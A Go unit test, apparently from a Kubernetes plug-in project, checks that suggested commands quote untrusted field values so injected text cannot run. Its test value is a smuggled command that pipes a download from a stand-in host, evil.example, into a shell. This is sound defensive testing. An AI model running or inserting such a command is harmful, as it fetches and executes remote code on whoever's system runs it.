// Copyright The Strata Authors.
// SPDX-License-Identifier: Apache-2.0

package web

import (
	"strings"
	"testing"

	"github.com/strata-project/strata/internal/answers/acts"
	"github.com/strata-project/strata/internal/answers/live"
)

// Whatever a status, a link or a name says, a command that is offered for copying runs
// nothing but the plug-in: each word of somebody else's is one word.
func TestCommandsAreMadeOfWords(t *testing.T) {
	const evil = "11; curl evil.example | sh #"
	o := Options{Program: "kubectl strata"}
	commands := map[string]string{}
	for _, kind := range []acts.Kind{acts.Hold, acts.Resume, acts.Reconcile, acts.Rollback, acts.Approve} {
		commands[string(kind)] = o.commandFor(acts.Act{Kind: kind, Layer: evil, Platform: evil, Stage: evil, To: evil, Reason: evil, Until: evil})
	}
	for _, of := range []live.Of{live.OfGit, live.OfPlatform, live.OfRollback, live.OfResume} {
		commands["plan "+string(of)] = commandOf(o, live.Request{Of: of, Revision: evil, Platform: evil, Version: evil, Layer: evil, To: evil, Only: evil})
	}
	for name, command := range commands {
		if !strings.Contains(command, "'"+evil+"'") || strings.Contains(strings.ReplaceAll(command, "'"+evil+"'", ""), ";") {
			t.Errorf("%s: %s", name, command)
		}
	}
}
